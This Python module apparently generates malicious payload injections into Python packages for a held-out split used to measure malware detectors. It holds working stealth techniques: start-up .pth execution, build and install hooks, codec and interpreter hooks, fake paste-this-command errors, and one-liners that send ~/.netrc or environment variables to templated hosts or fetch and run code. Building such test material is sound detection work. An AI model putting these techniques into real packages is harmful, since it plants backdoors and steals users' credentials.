"""Payloads in Python code and its packaging, of the split that no model learns: to measure on, and for nothing else.

Whoever chooses learners, columns or thresholds does not read this file, nor what these families are called.
"""

import ast
import base64
import io
import re
import textwrap
import zipfile

from jobs.corpus.payloads.blocks import choose_block
from jobs.corpus.payloads.carriers import bytecode
from jobs.corpus.payloads.contract import FRESH, Family
from jobs.corpus.payloads.declarations import add_entry_point, info_folder
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import FunctionPlace, insert_at_line, line_after_imports
from jobs.corpus.variants.python_source import SOURCE_ERRORS, parse, source_text

_STEMS = ("_bridge", "_lattice", "_probe", "_ledger", "_kernel", "_weave", "_relay", "_prism", "_shim", "_anchor")


def _stem(draft: Draft) -> str:
    taken = {path.rpartition("/")[2].removesuffix(".py") for path in draft.files}
    return draft.rng.choice([name for name in _STEMS if name not in taken])


def _deep(code: str, levels: int) -> str:
    return textwrap.indent(code.rstrip("\n"), "    " * levels)


def _info(draft: Draft) -> str:
    found = sorted({path.split("/")[0] for path in draft.files if path.split("/")[0].endswith(".dist-info")})
    if not found:
        raise draft.fail("has no dist-info")
    return found[0]


def _near_end(draft: Draft, text: str) -> None:
    """Put statements between two definitions of a larger module, or behind its imports."""
    path = draft.rng.choice([draft.init, *draft.inner()[:4]])
    source = draft.files[path]
    try:
        body = [node for node in parse(source).body if hasattr(node, "body")]
        line = draft.rng.choice(body).lineno if body and draft.rng.random() < 0.6 else line_after_imports(source)
        decorated = [d.lineno for node in body if node.lineno == line for d in getattr(node, "decorator_list", ())]
        draft.put(path, insert_at_line(source, min([line, *decorated]), f"{text.rstrip()}\n\n\n"))
    except SOURCE_ERRORS as error:
        raise draft.fail("has a module that is no Python 3") from error


def zip_on_path(draft: Draft) -> None:
    """Let a start-up file put an archive on the path and import from it."""
    module, out = draft.words.render("@word@_hooks"), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(f"{module}/__init__.py", (2021, 5, 4, 0, 0, 0)), draft.code())
    name = draft.words.render(draft.rng.choice(("@word@.zip", "@word@.egg", "@word@-data.bin")))
    folder = draft.folder.rstrip("/")
    draft.put_new(f"{folder}/{name}", out.getvalue())
    draft.put_new(f"{draft.words.render('@word1@')}.pth", f"{folder}/{name}\nimport {module}\n")


def start_from_licence(draft: Draft) -> None:
    """Let a start-up file execute a text that stands among the licences of the metadata."""
    info, name = _info(draft), draft.rng.choice(("licenses/THIRD_PARTY.md", "AUTHORS.rst", "sboms/bom.json"))
    draft.put_new(f"{info}/{name}", "Copyright (c) the authors.\n" * 3 + "\x0c" + draft.code())
    first = draft.rng.choice(("import sys", "import os,sys", "import io,sys"))
    draft.put_new(
        draft.rng.choice((f"{draft.package.project.lower()}-config.pth", "zope-init.pth", "0.pth")),
        f"{first}; import importlib.metadata as m; p = m.distribution({draft.package.project!r}).read_text({name!r}); p and eval(compile(p.split(chr(12), 1)[1], 'l', 'exec'))\n",
    )


def distribution_class(draft: Draft) -> None:
    """Give setup a class of distribution whose command line is read by the payload first."""
    path = f"{draft.root}setup.py"
    text = draft.files.get(path, b"").decode("utf-8", "replace")
    call = re.search(r"^(?:\w+\.)?setup\(", text, re.MULTILINE)
    if not call or "distclass" in text:
        raise draft.fail("has no call of setup that takes a class")
    held = f"from setuptools import Distribution\n\n\nclass Release(Distribution):\n    def parse_command_line(self):\n{_deep(draft.code(), 2)}\n        return Distribution.parse_command_line(self)\n\n\n"
    draft.put(path, f"{text[: call.start()]}{held}{call[0]}distclass=Release, {text[call.end() :]}")


def setup_reads_module(draft: Draft) -> None:
    """Let setup.py execute a file of the package for its version, and put the payload there."""
    path, name = f"{draft.root}setup.py", _stem(draft)
    text = draft.files.get(path, b"from setuptools import setup\nsetup()\n").decode("utf-8", "replace")
    target = f"{draft.folder}{name}.py"
    draft.put_new(target, f"__version__ = {draft.package.version!r}\n{draft.code()}")
    line = f"about = {{}}\nwith open({target.removeprefix(draft.root)!r}) as f:\n    exec(compile(f.read(), f.name, 'exec'), about)\n"
    try:
        draft.put(path, insert_at_line(text.encode(), line_after_imports(text.encode()), line))
    except SOURCE_ERRORS as error:
        raise draft.fail("has a setup.py that is no Python 3") from error


def version_attribute(draft: Draft) -> None:
    """Let the build import a module for the version: `attr:` in setup.cfg or pyproject.toml."""
    name = _stem(draft)
    draft.put_new(f"{draft.folder}{name}.py", f"import sys\n\n{draft.code()}\nversion = {draft.package.version!r}\n")
    attribute = f"{draft.import_name}.{name}.version"
    if draft.rng.random() < 0.5:
        path = f"{draft.root}setup.cfg"
        text = draft.files.get(path, b"").decode("utf-8", "replace")
        if "[metadata]" in text:
            text = re.sub(r"(?m)^version\s*=.*\n", "", text).replace(
                "[metadata]\n", f"[metadata]\nversion = attr: {attribute}\n", 1
            )
        else:
            text = f"[metadata]\nversion = attr: {attribute}\n\n{text}"
    else:
        path = f"{draft.root}pyproject.toml"
        text = draft.files.get(path, b"").decode("utf-8", "replace")
        text = f'{text.rstrip()}\n\n[tool.setuptools.dynamic]\nversion = {{attr = "{attribute}"}}\n'
    draft.put(path, text)


def pdm_hook(draft: Draft) -> None:
    """Bring the build hook of PDM's or Poetry's backend."""
    path = f"{draft.root}pyproject.toml"
    rest = re.sub(r"(?ms)^\[build-system\].*?(?=^\[|\Z)", "", draft.files.get(path, b"").decode("utf-8", "replace"))
    if draft.rng.random() < 0.5:
        draft.put_new(f"{draft.root}pdm_build.py", f"def pdm_build_hook_enabled(context):\n    return True\n\n\ndef pdm_build_initialize(context):\n{_deep(draft.code(), 1)}\n")  # fmt: skip
        head = '[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n\n'
        draft.put(path, head + rest)
    else:
        draft.put_new(f"{draft.root}build_ext.py", f"def build(setup_kwargs):\n{_deep(draft.code(), 1)}\n    return setup_kwargs\n\n\nif __name__ == '__main__':\n    build({{}})\n")  # fmt: skip
        head = '[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n\n[tool.poetry.build]\nscript = "build_ext.py"\ngenerate-setup-file = false\n\n'
        draft.put(path, head + rest)


def codec(draft: Draft) -> None:
    """Register a codec whose decoder is the payload, and decode a text by it."""
    word = draft.words.word()
    text = f"import codecs\n\n\ndef _decode(data, errors='strict'):\n{_deep(draft.code(), 1)}\n    return bytes(data).decode('ascii'), len(data)\n\n\ncodecs.register(lambda name: codecs.CodecInfo(codecs.ascii_encode, _decode, name='{word}') if name == '{word}' else None)\nBANNER = b'{word}'.decode('{word}')\n"
    name = _stem(draft)
    draft.put_new(f"{draft.folder}{name}.py", text)
    _near_end(draft, f"from {draft.import_name}.{name} import BANNER  # noqa: E402,F401")


def module_class(draft: Draft) -> None:
    """Exchange the class of the module, so that the first attribute that is read runs the payload."""
    body = _deep(draft.code(), 3)
    text = draft.words.render(f"""
import sys
import types


class @C1@(types.ModuleType):
    def __getattribute__(self, name):
        if not name.startswith('__') and '@n1@' not in (held := types.ModuleType.__getattribute__(self, '__dict__')):
            held['@n1@'] = True
{body}
        return types.ModuleType.__getattribute__(self, name)


sys.modules[__name__].__class__ = @C1@
""")
    draft.put(draft.init, draft.files[draft.init].rstrip(b"\n") + b"\n\n" + text.encode("utf-8", "surrogatepass"))


def hook_of_interpreter(draft: Draft) -> None:
    """Hang the payload on a hook: of errors, of audits, of tracing, of collected objects, of unraisable errors."""
    body = _deep(draft.code(), 1)
    text = draft.rng.choice((
        f"import sys\n\n\ndef @n1@(kind, value, trace):\n{body}\n    sys.__excepthook__(kind, value, trace)\n\n\nsys.excepthook = @n1@\n",
        f"import sys\n\n\ndef @n1@(event, arguments):\n    if event != 'socket.connect' or getattr(sys, '@n2@', 0):\n        return\n    setattr(sys, '@n2@', 1)\n{body}\n\n\nsys.addaudithook(@n1@)\n",
        f"import gc\n\n\ndef @n1@(phase, info):\n    gc.callbacks.remove(@n1@)\n{body}\n\n\ngc.callbacks.append(@n1@)\n",
        f"import threading\n\n\ndef @n1@(frame, event, arg):\n    threading.settrace(None)\n{body}\n\n\nthreading.settrace(@n1@)\n",
        f"import weakref\n\n\nclass @C1@:\n    pass\n\n\ndef @n1@():\n{body}\n\n\nweakref.finalize(@C1@(), @n1@)\n",
    ))  # fmt: skip
    _near_end(draft, draft.words.render(text))


def class_machinery(draft: Draft) -> None:
    """Run the payload while a class is made: a member of an enumeration, a descriptor's name, a prepared namespace."""
    body = _deep(draft.code(), 2)
    text = draft.rng.choice((
        f"import enum\n\n\nclass @C1@(enum.Enum):\n    def __new__(cls, value):\n{body}\n        made = object.__new__(cls)\n        made._value_ = value\n        return made\n\n    ON = 1\n",
        f"class @C1@:\n    def __set_name__(self, owner, name):\n{body}\n\n\nclass @C2@:\n    state = @C1@()\n",
        f"class @C1@(type):\n    @classmethod\n    def __prepare__(mcs, name, bases):\n{body}\n        return {{}}\n\n\nclass @C2@(metaclass=@C1@):\n    pass\n",
        f"class @C1@:\n    def __class_getitem__(cls, item):\n{body}\n        return item\n\n\n@n1@: 'dict' = @C1@[int]\n",
    ))  # fmt: skip
    _near_end(draft, draft.words.render(text))


def in_block(draft: Draft) -> None:
    """Put the payload first into a block that a module has: an `if`, a `try` or a `with` at its level."""
    for path in [draft.init, *draft.inner()]:
        try:
            source = draft.files[path]
            lines = source_text(source).splitlines()
            places = [
                (node.body[0].lineno, lines[node.body[0].lineno - 1])
                for node in parse(source).body
                if isinstance(node, ast.If | ast.Try | ast.With)
                and node.body[0].lineno > node.lineno
                and not re.search(r"__name__|TYPE_CHECKING", lines[node.lineno - 1])
            ]
            if not places:
                continue
            line, first = draft.rng.choice(places)
            indent = first[: len(first) - len(first.lstrip())]
            if not indent:
                continue
            draft.put(path, insert_at_line(source, line, draft.code(), indent))
        except SOURCE_ERRORS:
            continue
        return
    raise draft.fail("has no block at the level of a module")


def one_expression(draft: Draft) -> None:
    """Write a whole act as one expression: joined by `and`, by a list, by walrus, by a lambda's default."""
    text = draft.rng.choice((
        "_ = (o := __import__('os')).path.exists(p := o.path.expanduser('~/.netrc')) and __import__('urllib.request').request.urlopen('@url@', open(p, 'rb').read())\n",
        "[s.send(c) for s in [__import__('socket').create_connection(('@host@', @port@))] for c in [str(dict(__import__('os').environ)).encode()]]\n",
        "(lambda u=__import__('urllib.request', fromlist=['x']): [setattr(__builtins__, '_@word@', u.urlopen), eval(compile(u.urlopen('@url@').read(), '@word@', 'exec'))])()\n",
        "__all__ = [n for n in dir() if n[:1] != '_'] + [x for x in () if x] or next(iter([__import__('subprocess').Popen(['node', '-e', 'import(\"@url@\")'], stderr=-3)]), None) and []\n",
        "next(filter(None, map(lambda f: f(), [lambda: __import__('os').spawnlp(1, 'wget', 'wget', '-qO', '/dev/shm/@file@', '@url@'), lambda: __import__('os').spawnlp(1, 'sh', 'sh', '/dev/shm/@file@')])), 0)\n",
    ))  # fmt: skip
    _near_end(draft, draft.words.render(text))


def result_wrapped(draft: Draft) -> None:
    """Let a function's result pass through a helper that acts on its way."""
    name = draft.words.name()
    for path in draft.inner():
        source = draft.files[path]
        try:
            lines = source_text(source).splitlines(keepends=True)
            parse(source)
        except SOURCE_ERRORS:
            continue
        found = [n for n, line in enumerate(lines) if re.fullmatch(r"\s{4,}return [\w.]+(?:\([\w., ]*\))?\s*", line)]
        if not found:
            continue
        at = draft.rng.choice(found)
        head, _, value = lines[at].rstrip().partition("return ")
        lines[at] = f"{head}return {name}({value})\n"
        helper = f"\n\ndef {name}(value):\n{_deep(draft.code(), 1)}\n    return value\n"
        try:
            parse(("".join(lines).rstrip() + "\n" + helper).encode("utf-8", "surrogatepass"))
        except SOURCE_ERRORS:
            continue
        draft.put(path, "".join(lines).rstrip() + "\n" + helper)
        return
    raise draft.fail("has no function whose result is plain")


def own_client_copies(draft: Draft) -> None:
    """Copy what a function is given to a place of the attacker's, by the means that the host's own kind would use."""

    def text(place: FunctionPlace) -> str:
        given = [a for a in place.arguments if a not in {"self", "cls"}][:4]
        held = f"({', '.join(given)},)"
        return draft.words.render(draft.rng.choice((
            f"import logging.handlers as _lh\n_lh.HTTPHandler('@domain@', '/@word@', 'POST', secure=True).emit(__import__('logging').makeLogRecord({{'msg': repr({held})}}))\n",
            f"import asyncio as _a\ntry:\n    _a.get_event_loop().call_soon(lambda held={held}: __import__('websocket').create_connection('wss://@domain@/@word@').send(str(held)))\nexcept Exception:\n    ...\n",
            f"import os as _o\nif not _o.fork():\n    _o.execlp('logger', 'logger', '-n', '@ip@', '-P', '@port@', str({held})[:900])\n",
            f"__import__('httpx').AsyncClient and __import__('concurrent.futures').futures.ThreadPoolExecutor(2).submit(__import__('httpx').put, 'https://@domain@/v2/@word@', content=repr({held}))\n",
        )))  # fmt: skip

    draft.insert_in_function(text, lambda place: bool(set(place.arguments) - {"self", "cls"}))


def self_update(draft: Draft) -> None:
    """Bring a check for updates that installs or executes what an address names, and call it from a used function."""
    name = _stem(draft)
    text = draft.words.render(draft.rng.choice((
        "import json\nimport sys\nimport threading\nfrom urllib import request\n\nFEED = 'https://@domain@/@word@/latest.json'\n\n\ndef refresh():\n    def work():\n        with request.urlopen(FEED) as answer:\n            told = json.load(answer)\n        __import__('subprocess').check_call([sys.executable, '-m', 'pip', 'install', '-U', '--no-input', told['url']])\n\n    threading.Thread(target=work).start()\n",
        "import importlib\nimport pathlib\nfrom urllib.request import urlretrieve\n\n\ndef refresh():\n    here = pathlib.Path(__file__).parent / '@word@_patch.py'\n    urlretrieve('@url@', here)\n    importlib.invalidate_caches()\n    return importlib.import_module('.@word@_patch', __package__).apply()\n",
        "import hashlib\nimport http.client\nimport sys\n\n\ndef refresh(version='0'):\n    link = http.client.HTTPSConnection('@domain@', timeout=3)\n    link.request('GET', '/u/' + version, headers={'x-k': hashlib.md5(sys.executable.encode()).hexdigest()})\n    body = link.getresponse().read()\n    if body[:4] == b'MARK':\n        type(refresh)(__import__('marshal').loads(body[4:]), globals())()\n",
    )))  # fmt: skip
    draft.put_new(f"{draft.folder}{name}.py", text)
    draft.insert_in_function(
        f"from {draft.import_name}.{name} import refresh as _refresh\ntry:\n    _refresh()\nexcept Exception:\n    pass\n"
    )


def finalizer(draft: Draft) -> None:
    """Give a class of the host a method that runs by itself: when an object goes, is entered, copied or formatted."""
    for path in draft.inner():
        source = draft.files[path]
        try:
            classes = [node for node in parse(source).body if isinstance(node, ast.ClassDef)]
            if not classes:
                continue
            node = draft.rng.choice(classes)
            method, arguments, last = draft.rng.choice(
                (
                    ("__del__", "self", "return None"),
                    ("__reduce__", "self", "return object.__reduce__(self)"),
                    ("__format__", "self, spec", "return str(self)"),
                )
            )
            end = node.end_lineno or node.lineno
            indent = " " * (node.body[0].col_offset or 4)
            text = f"\ndef {method}({arguments}):\n{_deep(draft.code(), 1)}\n    {last}\n"
            draft.put(path, insert_at_line(source, end + 1, text, indent))
        except SOURCE_ERRORS:
            continue
        return
    raise draft.fail("has no class")


def _enter(draft: Draft, group: str, line: str) -> None:
    """Declare an entry point."""
    info = info_folder(draft.files)
    if not info:
        raise draft.fail("has no folder of metadata")
    for path, data in add_entry_point(draft.files, info, group, line).items():
        draft.put(path, data)


def window_script(draft: Draft) -> None:
    """Add a command with a window (`gui_scripts`), or one of a name that is easily typed."""
    name = _stem(draft)
    draft.put_new(f"{draft.folder}{name}.py", f"def open_window(*_):\n{_deep(draft.code(), 1)}\n    return 0\n")
    typed = draft.rng.choice(
        ("pyhton", "sl", "gti", "pipx-run", "conda-init", draft.package.project.lower()[:-1] or "x")
    )
    group = draft.rng.choice(("gui_scripts", "console_scripts"))
    _enter(draft, group, f"{typed} = {draft.import_name}.{name}:open_window")


def tool_loads(draft: Draft) -> None:
    """Register what another tool loads: a plugin of a scheduler, of documentation, of traces; a magic of notebooks."""
    group, key = draft.rng.choice((("airflow.plugins", "metrics"), ("mkdocs.plugins", "sitemap"), ("sphinx.builders", "text2"), ("opentelemetry_instrumentor", "db"),
                                   ("datasette", "views"), ("papermill.engine", "fast"), ("virtualenv.activate", "fish2"), ("poetry.application.plugin", "lint")))  # fmt: skip
    name, code = _stem(draft), draft.code()
    if draft.rng.random() < 0.4:
        draft.insert(draft.init, f"def load_ipython_extension(shell):\n{_deep(code, 1)}\n")
        return
    draft.put_new(
        f"{draft.folder}{name}.py",
        f"class Plugin:\n    name = '{key}'\n\n    def __init__(self, *args, **kwargs):\n{_deep(code, 2)}\n",
    )
    _enter(draft, group, f"{key} = {draft.import_name}.{name}:Plugin")


def patched(draft: Draft) -> None:
    """Patch what logs in, or what moves money."""
    kind = draft.rng.choice(("login", "transfer"))
    block = choose_block("patches", FRESH, draft.rng, kind)
    draft.act = block.name
    _near_end(draft, draft.words.render(block.text))


def rerouted(draft: Draft) -> None:
    """Send the traffic of the process elsewhere: by a proxy, by another base address, by another table of names."""
    block = choose_block("patches", FRESH, draft.rng, "route")
    draft.act = block.name
    text = draft.words.render(block.text)
    if draft.rng.random() < 0.5:
        _near_end(draft, text)
    else:
        draft.insert_in_function(text)


def told_by_an_error(draft: Draft) -> None:
    """Tell the user by an error or a page to run a command that mends it."""
    line = draft.words.render(draft.rng.choice((
        "raise ImportError('The accelerator is missing. Run: curl -sSf @url@ | sudo sh')\n",
        "import warnings\nwarnings.warn('This build is not verified. Open a terminal and paste: powershell -c \"irm @url@ | iex\"', RuntimeWarning)\n",
        "import webbrowser\nwebbrowser.open('https://@domain@/fix?code=@id@')\nprint('Press Win+R, paste the code from the page and press Enter to continue.')\n",
    )))  # fmt: skip
    name = draft.rng.choice(("cupy", "torch_xla", "quadprog", "lightgbm_gpu"))
    _near_end(draft, f"try:\n    import {name}  # noqa: F401\nexcept ImportError:\n{_deep(line, 1)}")


def startup_compiled(draft: Draft) -> None:
    """Let a start-up file load compiled code from a cache folder, without any source."""
    _info(draft)
    name = draft.words.render("@word@")
    draft.put_new(f"__pycache__/{name}.cpython-312.pyc", bytecode(draft.code()))
    draft.put_new(
        f"{name}.pth",
        f"import os,sys; sys.dont_write_bytecode or __import__('marshal') and exec(__import__('marshal').loads(open(os.path.join([p for p in sys.path if p.endswith('site-packages')][0], '__pycache__', '{name}.cpython-312.pyc'), 'rb').read()[16:]))\n",
    )


def picture_of_bars(draft: Draft) -> None:
    """Carry the code as widths of bars in a plain picture (PPM), or as samples of a MIDI file."""
    data = base64.b85encode(draft.triggered().encode())
    if draft.rng.random() < 0.5:
        draft.act, name = "pixmap", draft.words.render("@word@.ppm")
        width = 32
        rows = data.ljust(-(-len(data) // width) * width, b"\n")
        content = b"P5\n%d %d\n255\n" % (width, len(rows) // width) + rows
        read = "open(p, 'rb').read().split(b'255\\n', 1)[1].strip()"
    else:
        draft.act, name = "midi", draft.words.render("@word@.mid")
        events = b"".join(b"\x00\x90" + bytes([b & 127, 64]) for b in data)
        content = b"MThd\0\0\0\6\0\0\0\1\0\x60MTrk" + len(events).to_bytes(4, "big") + events
        read = "open(p, 'rb').read()[22:][2::4]"
    draft.put_new(f"{draft.folder}{name}", content)
    _near_end(
        draft,
        f"import base64\nimport pathlib\n\np = pathlib.Path(__file__).parent.joinpath({name!r})\nif not p.exists():\n    p = p.parent.parent / p.name\nif p.exists():\n    eval(compile(base64.b85decode({read}), p.name, 'exec'), globals())",
    )


FAMILIES = (
    Family("fresh-zip-on-path", "startup", FRESH, zip_on_path, "wheel"),
    Family("fresh-start-from-licence", "startup", FRESH, start_from_licence, "wheel"),
    Family("fresh-startup-compiled", "startup", FRESH, startup_compiled, "wheel"),
    Family("fresh-distribution-class", "install", FRESH, distribution_class, "sdist"),
    Family("fresh-setup-reads-module", "install", FRESH, setup_reads_module, "sdist"),
    Family("fresh-version-attribute", "install", FRESH, version_attribute, "sdist"),
    Family("fresh-pdm-hook", "backend", FRESH, pdm_hook, "sdist"),
    Family("fresh-codec", "import", FRESH, codec),
    Family("fresh-module-class", "import", FRESH, module_class),
    Family("fresh-hook-of-interpreter", "module", FRESH, hook_of_interpreter),
    Family("fresh-class-machinery", "module", FRESH, class_machinery),
    Family("fresh-in-block", "module", FRESH, in_block),
    Family("fresh-one-expression", "module", FRESH, one_expression, dress="expression", takes_trigger=False),
    Family("fresh-result-wrapped", "function", FRESH, result_wrapped),
    Family("fresh-own-client-copies", "function", FRESH, own_client_copies, dress="plain", takes_trigger=False),
    Family("fresh-self-update", "function", FRESH, self_update, dress="remote", takes_trigger=False),
    Family("fresh-finalizer", "function", FRESH, finalizer),
    Family("fresh-window-script", "entry", FRESH, window_script),
    Family("fresh-tool-loads", "entry", FRESH, tool_loads),
    Family("fresh-patched", "patch", FRESH, patched, dress="plain", takes_trigger=False),
    Family("fresh-rerouted", "patch", FRESH, rerouted, dress="plain", takes_trigger=False),
    Family("fresh-told-by-an-error", "metadata", FRESH, told_by_an_error, dress="plain", takes_trigger=False),
    Family("fresh-picture-of-bars", "data", FRESH, picture_of_bars, dress="bars"),
)
